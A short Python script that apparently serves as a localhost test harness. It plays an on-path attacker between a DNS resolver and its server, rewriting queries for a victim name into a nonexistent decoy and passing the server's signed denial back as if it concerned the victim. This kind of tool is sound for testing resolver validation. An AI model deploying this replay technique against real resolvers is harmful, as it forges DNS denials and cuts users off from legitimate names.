#!/usr/bin/python3
"""dnsreplay - an on-path attacker between a resolver and its server (UDP).

Usage: dnsreplay.py LISTEN_PORT SERVER_PORT VICTIM DECOY

Every query is passed on to 127.0.0.1:SERVER_PORT, except that a query whose
name holds the label VICTIM is asked about DECOY instead (a name that does
not exist), and the server's genuine, signed "no such name" answer is handed
back as if it were about VICTIM: a replayed denial.  Runs until killed.
"""
import socket
import sys


def main():
    listen, server = int(sys.argv[1]), int(sys.argv[2])
    victim, decoy = sys.argv[3].encode(), sys.argv[4].encode()
    if len(victim) != len(decoy):
        sys.exit("dnsreplay: VICTIM and DECOY must be labels of one length")
    front = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    front.bind(("127.0.0.1", listen))
    back = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    back.settimeout(2)
    sys.stderr.write("listening\n")
    sys.stderr.flush()
    while True:
        query, client = front.recvfrom(4096)
        hit = victim in query.lower()
        if hit:
            query = query.lower().replace(victim, decoy)
        back.sendto(query, ("127.0.0.1", server))
        try:
            answer, _ = back.recvfrom(65535)
        except socket.timeout:
            continue
        if hit:
            answer = answer.replace(decoy, victim)
            sys.stderr.write("replayed a denial for the victim\n")
            sys.stderr.flush()
        front.sendto(answer, client)


if __name__ == "__main__":
    main()
